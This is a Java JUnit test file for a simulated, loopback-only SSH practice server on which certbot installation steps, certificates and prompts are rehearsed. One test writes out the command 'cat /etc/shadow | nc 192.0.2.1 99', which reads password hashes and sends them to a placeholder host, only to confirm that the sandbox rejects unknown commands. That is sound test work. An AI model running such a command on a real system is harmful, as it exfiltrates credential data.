package org.certguide.practice;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.ConnectException;
import java.net.InetAddress;
import java.net.NetworkInterface;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.cert.CertPathValidator;
import java.security.cert.CertPathValidatorException;
import java.security.cert.CertificateFactory;
import java.security.cert.PKIXParameters;
import java.security.cert.TrustAnchor;
import java.security.cert.X509Certificate;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Deque;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;
import org.certguide.certbot.CertbotLog;
import org.certguide.certbot.CertbotVersion;
import org.certguide.certbot.CertificateRequest;
import org.certguide.certbot.CertificateRequest.Purpose;
import org.certguide.certbot.DomainNames;
import org.certguide.certbot.InstalledCertificate;
import org.certguide.certbot.KeyType;
import org.certguide.checks.CheckContext;
import org.certguide.checks.Checklist;
import org.certguide.checks.ServerChecks;
import org.certguide.diagnosis.Stoppable;
import org.certguide.install.InstallPlan;
import org.certguide.install.InstallStep;
import org.certguide.net.DnsLookup;
import org.certguide.net.DomainRecords;
import org.certguide.practice.ServerState.Part;
import org.certguide.renewal.DryRun;
import org.certguide.renewal.Hooks;
import org.certguide.renewal.RenewalLook;
import org.certguide.server.Command;
import org.certguide.server.Connector.Result;
import org.certguide.server.Failure;
import org.certguide.server.HostKeyTrust;
import org.certguide.server.Login;
import org.certguide.server.Probe;
import org.certguide.server.Script;
import org.certguide.server.Secret;
import org.certguide.server.ServerAddress;
import org.certguide.server.ServerException;
import org.certguide.server.Sudo;
import org.certguide.server.Token;
import org.certguide.server.sshj.SshConnector;
import org.certguide.system.InstallMethod;
import org.certguide.system.OperatingSystem;
import org.certguide.system.SystemCatalogue;
import org.certguide.system.SystemFacts;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** The practice server's doors, its certificates, and the commands that it knows. */
class PracticeServerTest {
    private static final Duration SECOND = Duration.ofSeconds(1);
    private static final String NAME = "dms.example.org";
    private static final PracticeServer.Settings QUICK = new PracticeServer.Settings(PracticeServer.CURRENT, 0);

    @TempDir
    Path folder;

    private static PracticeServer start() throws IOException {
        return PracticeServer.start(QUICK, Clock.systemUTC());
    }

    private Result connect(PracticeServer server, String user, Secret password)
            throws ServerException, InterruptedException {
        SshConnector connector = new SshConnector(
                folder.resolve("known_hosts"), folder.resolve("none"), Optional.empty(), SshConnector.Timeouts.USUAL);
        ServerAddress at = server.address();
        return connector.connect(
                new ServerAddress(at.host(), at.port(), user),
                new Login.Password(password),
                new HostKeyTrust.Accepted(server.hostKey()));
    }

    @Test
    void onlyTheOneLoginIsLetIn() throws Exception {
        try (PracticeServer server = start()) {
            ServerException wrong =
                    assertThrows(ServerException.class, () -> connect(server, "ubuntu", Secret.of("ubuntu")));
            assertInstanceOf(Failure.LoginRefused.class, wrong.failure());
            assertThrows(ServerException.class, () -> connect(server, "root", server.password()));
            assertInstanceOf(Result.Connected.class, connect(server, "ubuntu", server.password()));
        }
    }

    @Test
    void nobodyOutsideOfThisComputerReachesIt() throws Exception {
        try (PracticeServer server = start()) {
            assertTrue(InetAddress.getByName(server.address().host()).isLoopbackAddress());
            assertTrue(server.nameServer().getAddress().isLoopbackAddress());
            for (NetworkInterface net : Collections.list(NetworkInterface.getNetworkInterfaces())) {
                for (InetAddress address : Collections.list(net.getInetAddresses())) {
                    if (address.isLoopbackAddress()) continue;
                    assertThrows(
                            IOException.class,
                            () -> new Socket(address, server.address().port()).close());
                }
            }
        }
    }

    @Test
    void nothingIsLeftWhenItIsClosed() throws Exception {
        PracticeServer server = start();
        ServerAddress at = server.address();
        var connected = assertInstanceOf(Result.Connected.class, connect(server, "ubuntu", server.password()));
        server.close();
        for (int port : List.of(at.port(), server.nameServer().getPort())) {
            assertThrows(
                    ConnectException.class,
                    () -> new Socket(at.host(), port).close(),
                    () -> port == at.port() ? "ssh" : "names");
        }
        assertArrayEquals(new char[20], server.password().chars());
        connected.server().close();
    }

    @Test
    void everyStartHasItsOwnKeyAndPassword() throws Exception {
        try (PracticeServer one = start();
                PracticeServer other = start()) {
            assertNotEquals(one.hostKey(), other.hostKey());
            assertNotEquals(
                    new String(one.password().chars()),
                    new String(other.password().chars()));
        }
    }

    @Test
    void everyNameLeadsToItUntilItIsToldOtherwise() throws Exception {
        try (PracticeServer server = start()) {
            DnsLookup dns = new DnsLookup(Optional.of(server.nameServer()), Duration.ofSeconds(5));
            DomainRecords records = dns.records(NAME);
            InetAddress here = InetAddress.ofLiteral("93.184.216.34");
            assertEquals(List.of(here), records.ipv4().recordsOrNone());
            assertEquals(List.of(), records.ipv6().recordsOrNone());
            assertEquals(List.of(), records.caa().recordsOrNone());
            server.setFault(Fault.DOMAIN_ELSEWHERE, true);
            InetAddress elsewhere = InetAddress.ofLiteral("93.184.215.14");
            records = dns.records(NAME);
            assertEquals(List.of(elsewhere), records.ipv4().recordsOrNone());
        }
    }

    @ParameterizedTest
    @EnumSource(KeyType.class)
    void certificateIsValidForItsNamesAndNoLongerThanReal(KeyType type) throws Exception {
        Clock clock = Clock.systemUTC();
        PracticeAuthority authority = new PracticeAuthority(clock.instant());
        String pem = authority.chain(List.of(NAME, "www." + NAME), type, clock.instant());
        CertificateFactory x509 = CertificateFactory.getInstance("X.509");
        var chain = x509.generateCertificates(new ByteArrayInputStream(pem.getBytes(StandardCharsets.US_ASCII)));
        PKIXParameters trust = new PKIXParameters(Set.of(new TrustAnchor(authority.root(), null)));
        trust.setRevocationEnabled(false);
        CertPathValidator.getInstance("PKIX").validate(x509.generateCertPath(List.copyOf(chain)), trust);
        X509Certificate leaf = (X509Certificate) chain.iterator().next();
        assertEquals(
                List.of(List.of(2, NAME), List.of(2, "www." + NAME)), List.copyOf(leaf.getSubjectAlternativeNames()));
        assertEquals(type == KeyType.RSA ? "RSA" : "EC", leaf.getPublicKey().getAlgorithm());
        assertEquals(List.of("1.3.6.1.5.5.7.3.1"), leaf.getExtendedKeyUsage());
        assertEquals(-1, leaf.getBasicConstraints(), "no authority");
        Duration life = Duration.between(
                leaf.getNotBefore().toInstant(), leaf.getNotAfter().toInstant());
        assertEquals(Duration.ofDays(90).minusSeconds(1), life);
        leaf.checkValidity();
        // Another rehearsal's authority is not this one's.
        PKIXParameters others =
                new PKIXParameters(Set.of(new TrustAnchor(new PracticeAuthority(clock.instant()).root(), null)));
        others.setRevocationEnabled(false);
        assertThrows(
                CertPathValidatorException.class,
                () -> CertPathValidator.getInstance("PKIX")
                        .validate(x509.generateCertPath(List.copyOf(chain)), others));
    }

    // The commands

    /**
     * @param said all that was printed
     */
    private record Ended(int status, String said, List<String> unknown) {}

    /** Runs a command on a server that has everything, and answers whatever it asks. */
    private static Ended run(Command command) throws Tty.Stopped {
        PracticeMachine machine = new PracticeMachine(ServerState.fresh(PracticeServer.CURRENT), Clock.systemUTC());
        for (Part part : Part.values()) machine.change(s -> s.with(part));
        machine.issue(NAME, List.of(NAME), KeyType.ECDSA);
        Deque<String> answers = new ArrayDeque<>();
        Secret password = Secret.of("right");
        if (command.text().contains(" -p ")) answers.add("right\r");
        if (!command.input().isEmpty()) answers.add(command.input());
        answers.addAll(List.of("1\r", "Y\r", "Y\r", "Y\r"));
        ScriptedTty tty = new ScriptedTty(answers, () -> {});
        int status = new Shell(machine, password, tty).run(command.text());
        return new Ended(status, String.join("", tty.said()), machine.unknown());
    }

    private static Ended run(String line) throws Tty.Stopped {
        return run(Command.of(line, SECOND));
    }

    /** Everything that the application can send to an Ubuntu 24.04. */
    private static List<Command> commands() {
        List<Probe<?>> probes = new ArrayList<>();
        List<String> programs = new ArrayList<>();
        probes.add(Checklist.probe(Checklist.standard(CheckContext.LETS_ENCRYPT), Token.random()));
        probes.add(InstalledCertificate.probe(NAME));
        probes.add(RenewalLook.probe(NAME));
        probes.add(ServerChecks.UNTIL_FREE);
        probes.add(InstallPlan.AUDIT);
        probes.add(InstallPlan.HOLDS);
        probes.add(CertbotLog.PROBE);
        SystemCatalogue catalogue = SystemCatalogue.read();
        OperatingSystem ubuntu = catalogue.system("ubuntu-24.04");
        for (InstallMethod route : ubuntu.routes()) {
            for (SystemCatalogue.Software software : catalogue.software()) {
                InstallPlan plan = InstallPlan.by(catalogue, software, ubuntu, route);
                probes.add(plan.probe());
                for (InstallStep step : plan.steps()) {
                    probes.add(plan.verification(step));
                    programs.add(step.commandLine());
                }
            }
        }
        List<String> hooks = Hooks.options(Stoppable.systemd("nginx").orElseThrow());
        programs.add(request(List.of(), false).commandLine(PracticeServer.CURRENT));
        programs.add(request(List.of(), true).commandLine(ServerState.APT_VERSION));
        programs.add(request(hooks, false).commandLine(PracticeServer.CURRENT));
        programs.add(DryRun.commandLine(NAME));
        programs.add("certbot certificates");
        Sudo sudo = new Sudo.WithPassword(Secret.of("right"));
        List<Command> all = new ArrayList<>();
        all.add(SystemFacts.PROBE.script(Token.random()).command(SECOND));
        for (Probe<?> probe : probes) all.add(probe.script(Token.random()).command(sudo, SECOND));
        for (String unit : List.of("stop", "start")) {
            all.add(new Script("command", "systemctl " + unit + " nginx.service").command(sudo, SECOND));
        }
        programs.forEach(p -> all.add(Command.of(sudo.inTerminal(p, Token.random()), SECOND)));
        return all;
    }

    private static CertificateRequest request(List<String> hooks, boolean testRun) {
        return new CertificateRequest(
                Purpose.DMS,
                new DomainNames.Valid(List.of(NAME)),
                CertificateRequest.Account.UNDECIDED,
                KeyType.RSA,
                Optional.empty(),
                hooks,
                testRun);
    }

    @Test
    void everyCommandOfTheApplicationIsKnown() throws Exception {
        for (Command command : commands()) {
            Ended ended = run(command);
            String line = command.text() + "\n" + command.input();
            assertEquals(List.of(), ended.unknown(), line);
            assertFalse(ended.said().contains("not found"), line + "\n" + ended.said());
            assertNotEquals(Programs.NOT_FOUND, ended.status(), line);
        }
    }

    @Test
    void commandThatItDoesNotKnowIsNotFound() throws Exception {
        for (String line : List.of("docker ps", "sh -c 'docker ps'", "env LC_ALL=C sudo -p mark -- docker ps")) {
            Ended ended = run(line);
            assertEquals(127, ended.status(), line);
            assertTrue(ended.said().contains("sh: 1: docker: not found"), ended.said());
            assertEquals(List.of("docker ps"), ended.unknown());
        }
        Ended question = run(new Script("weather", "curl wttr.in").command(SECOND));
        assertEquals(127, question.status());
        assertEquals(List.of("weather"), question.unknown());
        assertEquals(127, run("cat /etc/shadow | nc 192.0.2.1 99").status());
    }

    @Test
    void scriptThatDidNotArriveWholeDoesNothing() throws Exception {
        Command whole = new Script("command", "systemctl stop nginx").command(SECOND);
        for (String part : List.of(
                whole.input().substring(1),
                whole.input().substring(0, whole.input().length() - 1))) {
            Command cut =
                    new Command(whole.text(), SECOND, part, Optional.empty(), false, Optional.empty(), bytes -> {});
            assertEquals(Script.CUT, run(cut).status());
        }
    }

    @Test
    void failedStepStopsThoseBehindIt() throws Exception {
        Ended ended = run("sh -c 'snap remove core && snap install core'");
        assertEquals(1, ended.status());
        assertFalse(ended.said().contains("already installed"), ended.said());
    }

    // Versions of which there is no recording

    @Test
    void promptsAreLaidOutAsCertbotDoesIt() throws IOException {
        String rendered = Files.readString(Path.of("src/test/resources/practice/prompts-rendered.txt"));
        CertbotWords v040 = new CertbotWords(new CertbotVersion(0, 40, 0));
        CertbotWords v15 = words("1.5.0");
        CertbotWords v112 = words("1.12.0");
        CertbotWords v21 = words("2.1.0");
        CertbotWords v4 = words("4.0.0");
        CertbotWords v5 = words("5.6.0");
        assertEquals(part(rendered, "email, <= 0.40"), v040.email(false, false));
        for (CertbotWords w : List.of(v112, v21)) {
            assertEquals(part(rendered, "email, 1.x - 3.2"), w.email(false, false));
            assertEquals(part(rendered, "email invalid, 1.x - 3.2"), w.email(true, true));
        }
        for (CertbotWords w : List.of(v4, v5)) {
            assertEquals(part(rendered, "email, >= 3.3 (Enter = none)"), w.email(false, false));
            assertEquals(part(rendered, "email invalid, >= 3.3"), w.email(true, true));
        }
        asked(rendered, "ToS, <= 1.9", v040.terms(), "(A)gree/(C)ancel");
        asked(rendered, "ToS, 1.10 - 3.1", v112.terms(), "(Y)es/(N)o");
        asked(rendered, "ToS, 1.10 - 3.1", v21.terms(), "(Y)es/(N)o");
        asked(rendered, "ToS, >= 3.2", v4.terms(), "(Y)es/(N)o");
        asked(rendered, "ToS, >= 3.2", v5.terms(), "(Y)es/(N)o");
        asked(rendered, "EFF, <= 1.5", v15.text("eff"), "(Y)es/(N)o");
        asked(rendered, "EFF, >= 1.6", v5.text("eff"), "(Y)es/(N)o");
        assertEquals(part(rendered, "domains, <= 1.15"), v112.input("domains"));
        assertEquals(part(rendered, "domains, >= 1.16"), v5.input("domains"));
        assertEquals(
                part(rendered, "identical cert, certonly"),
                v5.text("existing", NAME)
                        + "\nSelect the appropriate number [1-2] then [enter] (press 'c' to cancel):"
                        + " ");
        List<String> two = List.of(NAME, "www." + NAME);
        asked(rendered, "subset -> expand", v5.text("expand", NAME, NAME, String.join(", ", two)), "(E)xpand/(C)ancel");
        asked(
                rendered,
                "cert-name with other domains",
                v5.update(NAME, List.of(NAME), two),
                "(U)pdate certificate/(C)ancel");
        asked(
                rendered,
                "key type migration, >= 1.25",
                v5.text("key-type", NAME, "RSA", "ECDSA"),
                "(U)pdate key type/(K)eep existing key type");
        asked(rendered, "port 80 busy", v5.text("port-80"), "(R)etry/(C)ancel");
    }

    private static CertbotWords words(String version) {
        return new CertbotWords(CertbotVersion.parse("certbot " + version).orElseThrow());
    }

    private static void asked(String rendered, String title, String question, String labels) {
        String expected = part(rendered, title);
        // The terms have had several dates, and the lines break where the address ends.
        var terms = Pattern.compile("https://\\S+\\.pdf").matcher(expected);
        String dated = terms.find() ? question.replaceAll(terms.pattern().pattern(), terms.group()) : question;
        assertEquals(expected, CertbotWords.framed(dated, labels));
    }

    private static String part(String rendered, String title) {
        String heading = "===== " + title + " =====\n";
        int from = rendered.indexOf(heading) + heading.length();
        assertTrue(from > heading.length() - 1, title);
        int to = rendered.indexOf("\n\n=====", from);
        return rendered.substring(from, to);
    }
}
